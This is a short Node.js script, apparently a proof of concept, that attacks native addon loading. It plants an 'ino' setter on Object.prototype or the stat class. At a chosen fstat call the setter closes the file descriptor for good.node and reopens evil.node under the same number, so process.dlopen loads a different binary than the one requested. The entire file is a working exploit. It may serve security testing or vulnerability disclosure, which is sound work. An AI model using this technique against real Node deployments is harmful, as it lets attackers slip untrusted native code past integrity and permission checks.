// Puts evil.node under the number at a chosen call of fstat, from a setter that its result runs.
const fs = require('node:fs');

const { closeSync, openSync, readdirSync, readlinkSync } = fs;
const owners = {
  'Object.prototype': Object.prototype,
  'its class': Object.getPrototypeOf(fs.statSync('/', { bigint: true })),
};
const [owner, at] = [owners[process.argv[2]], Number(process.argv[3])];
let calls = 0;
Object.defineProperty(owner, 'ino', {
  configurable: true,
  set(value) {
    Object.defineProperty(this, 'ino', { value, configurable: true });
    if (++calls === at) swap();
  },
});
function swap() {
  for (const name of readdirSync('/proc/self/fd')) {
    try {
      if (!readlinkSync(`/proc/self/fd/${name}`).endsWith('good.node')) continue;
      closeSync(Number(name));
      openSync(`${__dirname}/evil.node`);
    } catch {
      // The fd by which the list was read.
    }
  }
}
process.dlopen({ exports: {} }, `${__dirname}/good.node`);
